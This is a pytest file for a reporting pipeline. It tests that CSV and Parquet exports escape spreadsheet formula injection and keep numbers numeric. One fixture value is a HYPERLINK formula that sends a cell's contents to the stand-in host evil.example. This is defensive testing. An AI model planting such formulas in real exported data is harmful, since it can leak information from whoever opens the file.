"""The report's CSV and Parquet exports are opened in spreadsheets: text from a source that could
read as a formula is written as text, numbers stay numbers."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import sqlalchemy as sa

from vcpipeline.report.run import build_period_report
from vcpipeline.textsafety import formula_safe_frame
from vcpipeline.warehouse.db import make_engine
from vcpipeline.warehouse.migrate import upgrade
from vcpipeline.warehouse.schema import load_batches

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Details")'


def _warehouse_with_a_hostile_source_name(tmp_path: Path) -> str:
    """A warehouse whose load log names a source with a formula, written straight in (as if it
    had got past every check at ingest)."""
    url = f"sqlite:///{tmp_path / 'warehouse.db'}"
    upgrade(url)
    engine = make_engine(url)
    night = {"interval_start": datetime(2026, 2, 2, 1, tzinfo=UTC), "interval_end": datetime(2026, 2, 3, 1, tzinfo=UTC),
             "status": "succeeded", "started_at": datetime(2026, 2, 3, 1, tzinfo=UTC)}
    try:
        with engine.begin() as conn:
            conn.execute(sa.insert(load_batches), [
                {"batch_id": "b1", "source_system": HOSTILE, "rows_extracted": 10, "rows_loaded": 9,
                 "rows_quarantined": 1, **night},
                {"batch_id": "b2", "source_system": "@SUM(1+1)", "rows_extracted": 5, "rows_loaded": 5,
                 "rows_quarantined": 0, **night},
                {"batch_id": "b3", "source_system": "crime_recording", "rows_extracted": 7, "rows_loaded": 7,
                 "rows_quarantined": 0, **night},
            ])
    finally:
        engine.dispose()
    return url


def test_a_source_value_that_looks_like_a_formula_is_exported_as_text(tmp_path):
    url = _warehouse_with_a_hostile_source_name(tmp_path)
    page = build_period_report(url, "2026Q1", tmp_path / "report",
                               generated_at=datetime(2026, 4, 14, tzinfo=UTC))
    folder = page.parent / "victims-code-2026Q1-data"

    csv_text = (folder / "loads.csv").read_text()
    assert "\n=" not in csv_text and ",=" not in csv_text and ',"=' not in csv_text
    assert ",@" not in csv_text and ',"@' not in csv_text
    loads = pd.read_csv(folder / "loads.csv").set_index("source_system")
    assert {"'" + HOSTILE, "'@SUM(1+1)", "crime_recording"} <= set(loads.index)
    parquet = pd.read_parquet(folder / "loads.parquet").set_index("source_system")
    assert {"'" + HOSTILE, "'@SUM(1+1)", "crime_recording"} <= set(parquet.index)
    # Counts are numbers in both files, not text.
    assert pd.api.types.is_integer_dtype(loads["rows_extracted"])
    assert pd.api.types.is_integer_dtype(parquet["rows_extracted"])
    assert parquet.loc["'" + HOSTILE, "rows_extracted"] == 10


def test_text_that_could_start_a_formula_is_marked_and_numbers_are_left_alone():
    frame = pd.DataFrame({
        "team": ["=1+1", "+44 7700", "-x", "@cmd", "\tTAB", "\rCR", "RESP-B3", "-3.5", None],
        "change": [-1.5, -2.0, 0.0, 1.0, 2.0, -3.0, 4.0, 5.0, 6.0],
        "due": [-1, 2, 3, 4, 5, 6, 7, 8, 9],
    })
    safe = formula_safe_frame(frame)
    assert safe["team"].tolist()[:8] == ["'=1+1", "'+44 7700", "'-x", "'@cmd", "'\tTAB", "'\rCR", "RESP-B3", "-3.5"]
    assert pd.isna(safe["team"].iloc[8])
    pd.testing.assert_series_equal(safe["change"], frame["change"])  # negative numbers stay numbers
    pd.testing.assert_series_equal(safe["due"], frame["due"])
    assert frame["team"].iloc[0] == "=1+1"  # the input is not changed
